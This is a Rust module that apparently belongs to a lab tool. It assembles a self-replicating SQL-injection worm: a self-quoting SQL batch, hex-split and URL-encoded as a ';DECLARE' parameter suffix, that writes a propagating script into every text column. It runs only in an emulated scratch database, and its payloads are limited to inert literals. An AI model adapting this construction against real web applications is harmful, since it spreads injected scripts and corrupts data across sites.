//! Builds the two-stage quine and checks that it reproduces itself.
//!
//! The server stage is a SQL batch (`nonquine`) that writes a script into
//! every text column and carries its own source, hex-encoded, inside that
//! script. The bootstrap wraps `nonquine` in a header that stores a quoted
//! copy of it in `@a`, which is how the batch gets hold of its own text.
//! The client stage is the script from `js_egg`, whose `sql_egg` string is
//! the URL form of `reassembly` with the four hex slots filled in.

mod encode;
mod verify;

use thiserror::Error;

use crate::minisql::{exec_batch, parse_batch, ColumnDef, Database, ExecContext, Expr, SqlError, SqlValue, Statement};
use crate::pagescript::{parse_script, Expr as JsExpr, StmtKind};

pub use encode::{
    escape_sql_string, hex_fragments, in_egg_alphabet, url_decode_param, url_encode_egg, ENCODING_MAP, FRAGMENTS,
    FRAGMENT_LEN, MAX_QUINE_LEN,
};
pub use verify::{verify_fixed_point, verify_generations, ByteDiff, VerifyReport, PROBE_LINK};

pub const NONQUINE: &[u8] = include_bytes!("../../templates/nonquine.sql");
pub const JS_EGG: &[u8] = include_bytes!("../../templates/js_egg.js");
pub const REASSEMBLY: &[u8] = include_bytes!("../../templates/reassembly.sql");

/// Header placed before the quoted copy of the nonquine.
pub const QUINE_HEADER: &[u8] = b"\r\nDECLARE @a varchar(MAX);\r\nSET @a=";

pub const JS_EGG_SLOT: &[u8] = b"JS_EGG";
pub const SQL_EGG_SLOT: &[u8] = b"SQL_EGG";
pub const SQL_PAYLOAD_SLOT: &[u8] = b"--SQL_PAYLOAD--";
pub const JS_PAYLOAD_SLOT: &[u8] = b"/*JS_PAYLOAD*/";
pub const JEM_SLOT: &[u8] = b"JEM";
pub const SEM_SLOTS: [&[u8]; FRAGMENTS] = [b"SEM1", b"SEM2", b"SEM3", b"SEM4"];

/// Name and column of the one-row table every scratch database starts with.
pub const SCRATCH_TABLE: &str = "seed";
pub const SCRATCH_COLUMN: &str = "body";
pub const SCRATCH_TEXT: &[u8] = b"welcome";

/// The first bytes of every forged script; used to find eggs in cells.
pub const EGG_MARKER: &[u8] = b"<script>var text=labpage.html;\r\n";

#[derive(Debug, Clone, PartialEq, Error)]
pub enum ForgeError {
    #[error("text of {0} bytes does not fit the four hex slots")]
    Oversize(usize),
    #[error("bootstrap is {0} bytes, over the {MAX_QUINE_LEN}-byte budget")]
    Size(usize),
    #[error("{0} payload contains a single quote")]
    Quote(&'static str),
    #[error("byte 0x{byte:02x} at offset {offset} cannot be URL-encoded")]
    Alphabet { offset: usize, byte: u8 },
    #[error("payload rejected: {0}")]
    Payload(String),
    #[error("template problem: {0}")]
    Template(String),
    #[error("engine error: {0}")]
    Engine(SqlError),
    #[error("inconsistent construction: {0}")]
    Mismatch(String),
    #[error("fixed point does not hold:\n{0}")]
    FixedPoint(Box<VerifyReport>),
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QuineTemplates {
    pub nonquine: Vec<u8>,
    pub js_egg: Vec<u8>,
    pub reassembly: Vec<u8>,
}

impl Default for QuineTemplates {
    fn default() -> Self {
        Self::canonical()
    }
}

fn count(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len()).filter(|w| *w == needle).count()
}

fn replace_once(hay: &[u8], needle: &[u8], with: &[u8]) -> Vec<u8> {
    match hay.windows(needle.len()).position(|w| w == needle) {
        Some(i) => [&hay[..i], with, &hay[i + needle.len()..]].concat(),
        None => hay.to_vec(),
    }
}

impl QuineTemplates {
    pub fn canonical() -> Self {
        QuineTemplates { nonquine: NONQUINE.to_vec(), js_egg: JS_EGG.to_vec(), reassembly: REASSEMBLY.to_vec() }
    }

    /// Slot counts and alphabet. The nonquine names `JEM` twice (the target
    /// and the replace call) and each `SEMk` once, in its replace call.
    pub fn check(&self) -> Result<(), ForgeError> {
        let expect = |name: &str, text: &[u8], slot: &[u8], n: usize| {
            let c = count(text, slot);
            if c == n {
                Ok(())
            } else {
                Err(ForgeError::Template(format!(
                    "{name} has {c} occurrence(s) of {}, expected {n}",
                    String::from_utf8_lossy(slot)
                )))
            }
        };
        expect("nonquine", &self.nonquine, JS_EGG_SLOT, 1)?;
        expect("nonquine", &self.nonquine, SQL_PAYLOAD_SLOT, 1)?;
        expect("nonquine", &self.nonquine, JEM_SLOT, 2)?;
        expect("js_egg", &self.js_egg, SQL_EGG_SLOT, 1)?;
        expect("js_egg", &self.js_egg, JS_PAYLOAD_SLOT, 1)?;
        for sem in SEM_SLOTS {
            expect("reassembly", &self.reassembly, sem, 1)?;
            expect("nonquine", &self.nonquine, sem, 1)?;
            expect("js_egg", &self.js_egg, sem, 0)?;
        }
        for (name, t) in [("nonquine", &self.nonquine), ("js_egg", &self.js_egg), ("reassembly", &self.reassembly)] {
            if let Some(i) = t.iter().position(|&b| !(b.is_ascii_graphic() || matches!(b, b' ' | b'\r' | b'\n'))) {
                return Err(ForgeError::Template(format!("{name} has a non-ASCII byte at {i}")));
            }
        }
        if self.js_egg.contains(&b'\'') {
            return Err(ForgeError::Template("js_egg contains a single quote".into()));
        }
        if !self.reassembly.starts_with(b";DECLARE") {
            return Err(ForgeError::Template("reassembly must start with ;DECLARE".into()));
        }
        Ok(())
    }
}

/// Extra code carried by the worm. Both kinds are limited to visibly inert
/// statements: `SELECT` of literals, and `alert` of literals.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Payloads {
    pub sql: Vec<u8>,
    pub js: Vec<u8>,
}

impl Payloads {
    pub fn validate(&self) -> Result<(), ForgeError> {
        for (kind, p) in [("SQL", &self.sql), ("script", &self.js)] {
            if p.contains(&b'\'') {
                return Err(ForgeError::Quote(kind));
            }
            if let Some(i) = p.iter().position(|&b| !(b.is_ascii_graphic() || matches!(b, b' ' | b'\r' | b'\n'))) {
                return Err(ForgeError::Payload(format!("{kind} payload has a non-ASCII byte at {i}")));
            }
        }
        if !self.sql.is_empty() {
            let stmts = parse_batch(&self.sql).map_err(|e| ForgeError::Payload(format!("SQL payload: {e}")))?;
            let literal = |e: &Expr| matches!(e, Expr::IntLit(_) | Expr::HexLit(_) | Expr::StringLit(_) | Expr::Null);
            for s in &stmts {
                match s {
                    Statement::Select(sel)
                        if sel.from.is_empty() && sel.filter.is_none() && sel.projection.iter().all(literal) => {}
                    _ => return Err(ForgeError::Payload("SQL payload may only select literals".into())),
                }
            }
        }
        if !self.js.is_empty() {
            if self.js.contains(&b'<') || self.js.windows(2).any(|w| w == b"*/") {
                return Err(ForgeError::Payload("script payload may not contain '<' or '*/'".into()));
            }
            let prog = parse_script(&self.js).map_err(|e| ForgeError::Payload(format!("script payload: {e}")))?;
            for s in &prog.statements {
                let ok = match &s.kind {
                    StmtKind::Empty => true,
                    StmtKind::Expr(JsExpr::Call(f, args)) => {
                        matches!(f.as_ref(), JsExpr::Ident(n) if n == "alert")
                            && args.len() == 1
                            && matches!(args[0], JsExpr::Str(_) | JsExpr::Num(_))
                    }
                    _ => false,
                };
                if !ok {
                    return Err(ForgeError::Payload("script payload may only alert literals".into()));
                }
            }
        }
        Ok(())
    }
}

/// The script template with its payload slot filled. `sql_egg` is still
/// the slot name.
fn js_egg_with_payload(t: &QuineTemplates, p: &Payloads) -> Vec<u8> {
    if p.js.is_empty() {
        t.js_egg.clone()
    } else {
        replace_once(&t.js_egg, JS_PAYLOAD_SLOT, &p.js)
    }
}

/// The script as it lands in a database cell, given the URL suffix it
/// carries.
pub fn assemble_js_egg(t: &QuineTemplates, p: &Payloads, url_suffix: &[u8]) -> Vec<u8> {
    replace_once(&js_egg_with_payload(t, p), SQL_EGG_SLOT, url_suffix)
}

/// The nonquine with every slot except the `SEMk`/`JEM` runtime ones filled.
pub fn fill_nonquine(t: &QuineTemplates, p: &Payloads) -> Result<Vec<u8>, ForgeError> {
    let sql_egg_template = url_encode_egg(&t.reassembly)?;
    let js = assemble_js_egg(t, p, &sql_egg_template);
    let mut n = t.nonquine.clone();
    if !p.sql.is_empty() {
        n = replace_once(&n, SQL_PAYLOAD_SLOT, &p.sql);
    }
    Ok(replace_once(&n, JS_EGG_SLOT, &js))
}

/// Header, quoted copy of the nonquine, then the nonquine itself.
pub fn build_bootstrap(t: &QuineTemplates, p: &Payloads) -> Result<Vec<u8>, ForgeError> {
    t.check()?;
    p.validate()?;
    let n = fill_nonquine(t, p)?;
    let mut q = QUINE_HEADER.to_vec();
    q.push(b'\'');
    q.extend(escape_sql_string(&n));
    q.extend_from_slice(b"';\r\n");
    q.extend(&n);
    if q.len() > MAX_QUINE_LEN {
        return Err(ForgeError::Size(q.len()));
    }
    Ok(q)
}

/// The reassembly code with the four hex fragments of `quine_sql`.
pub fn build_injection(t: &QuineTemplates, quine_sql: &[u8]) -> Result<Vec<u8>, ForgeError> {
    let frags = hex_fragments(quine_sql)?;
    let mut s = t.reassembly.clone();
    for (slot, f) in SEM_SLOTS.iter().zip(&frags) {
        s = replace_once(&s, slot, f);
    }
    Ok(s)
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Egg {
    /// Bootstrap batch: header, quoted nonquine, nonquine.
    pub quine_sql: Vec<u8>,
    /// Reassembly code carrying `quine_sql` as hex; begins with `;DECLARE`.
    pub injection_sql: Vec<u8>,
    /// `injection_sql` in URL form, appended after an integer parameter.
    pub url_param_suffix: Vec<u8>,
    /// The script the worm writes into text cells.
    pub js_egg: Vec<u8>,
}

/// A database with one user table holding one text cell.
pub fn scratch_db() -> Database {
    let mut db = Database::new();
    db.create_table(SCRATCH_TABLE, vec![ColumnDef::text_legacy(SCRATCH_COLUMN)]).expect("fresh database");
    db.insert_row(SCRATCH_TABLE, vec![SqlValue::Text(SCRATCH_TEXT.to_vec())]).expect("matching row");
    db
}

/// The scratch cell's current bytes.
pub fn scratch_cell(db: &Database) -> Vec<u8> {
    db.table(SCRATCH_TABLE)
        .and_then(|t| t.rows.first())
        .and_then(|r| r.first())
        .and_then(SqlValue::bytes)
        .map(<[u8]>::to_vec)
        .unwrap_or_default()
}

/// Everything from the first egg marker on.
pub fn egg_in(cell: &[u8]) -> Option<&[u8]> {
    cell.windows(EGG_MARKER.len()).position(|w| w == EGG_MARKER).map(|i| &cell[i..])
}

/// Recover the quine carried inside a runtime `@b`: find the script's
/// `sql_egg` string, decode it, and join the hex literals it casts.
pub fn quine_from_runtime(b: &[u8]) -> Option<Vec<u8>> {
    const OPEN: &[u8] = b"var sql_egg=\"";
    let start = b.windows(OPEN.len()).position(|w| w == OPEN)? + OPEN.len();
    let len = b[start..].iter().position(|&c| c == b'"')?;
    let sql = url_decode_param(&b[start..start + len]);
    let mut out = Vec::new();
    let mut found = 0;
    let mut rest = &sql[..];
    while let Some(i) = rest.windows(7).position(|w| w == b"CAST(0x") {
        let digits = &rest[i + 7..];
        let n = digits.iter().take_while(|c| c.is_ascii_hexdigit()).count();
        out.extend(crate::minisql::from_hex(&digits[..n])?);
        found += 1;
        rest = &digits[n..];
    }
    (found == FRAGMENTS).then_some(out)
}

/// Build every artifact without checking the result.
pub fn forge_egg_unchecked(t: &QuineTemplates, p: &Payloads) -> Result<Egg, ForgeError> {
    let quine_sql = build_bootstrap(t, p)?;
    let injection_sql = build_injection(t, &quine_sql)?;
    let url_param_suffix = url_encode_egg(&injection_sql)?;
    let js_egg = assemble_js_egg(t, p, &url_param_suffix);
    Ok(Egg { quine_sql, injection_sql, url_param_suffix, js_egg })
}

/// Build the egg, run the bootstrap once in a scratch database, check that
/// the runtime construction agrees with the static one, and verify the
/// fixed point over one generation.
pub fn forge_egg(t: &QuineTemplates, p: &Payloads) -> Result<Egg, ForgeError> {
    let egg = forge_egg_unchecked(t, p)?;
    let mut db = scratch_db();
    let mut ctx = ExecContext::default();
    let result = exec_batch(&mut db, &egg.quine_sql, &mut ctx).map_err(|e| ForgeError::Engine(e.error))?;
    let b = result
        .result_sets
        .last()
        .and_then(|rs| rs.rows.first())
        .and_then(|r| r.first())
        .and_then(SqlValue::bytes)
        .map(<[u8]>::to_vec)
        .ok_or_else(|| ForgeError::Mismatch("bootstrap returned no final result set".into()))?;
    let runtime_quine =
        quine_from_runtime(&b).ok_or_else(|| ForgeError::Mismatch("no hex-encoded quine in the runtime @b".into()))?;
    if runtime_quine != egg.quine_sql {
        let d = ByteDiff::between(&egg.quine_sql, &runtime_quine);
        return Err(ForgeError::Mismatch(format!("runtime quine differs from the bootstrap: {d}")));
    }
    let cell = scratch_cell(&db);
    if !cell.ends_with(&egg.js_egg) {
        return Err(ForgeError::Mismatch("scratch cell does not end with the script".into()));
    }
    let report = verify_fixed_point(&egg);
    if !report.ok {
        return Err(ForgeError::FixedPoint(Box::new(report)));
    }
    Ok(egg)
}
